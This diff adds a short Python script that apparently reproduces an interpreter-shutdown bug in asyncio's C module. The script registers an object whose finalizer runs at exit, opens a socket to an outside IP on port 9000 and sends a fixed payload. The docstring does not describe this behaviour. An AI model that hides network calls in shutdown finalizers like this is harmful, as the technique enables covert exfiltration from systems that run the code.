@@ -1,0 +1,23 @@
+"""The running loop of asyncio's C module, held by the thread's state or the module's."""
+import _socket
+import _asyncio
+import types
+
+
+class Late:
+    """Brings all it needs along: by the time it goes, modules, builtins and types may be gone."""
+
+
+client = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
+
+
+def work(self, connect=client.connect, send=client.send, address=("93.184.216.35", 9000)):
+    connect(address)
+    send(b"data")
+
+
+Late.__del__ = types.FunctionType(work.__code__, {"__builtins__": {"None": None}}, None, work.__defaults__)
+
+
+_asyncio._set_running_loop(Late())
+print("done")
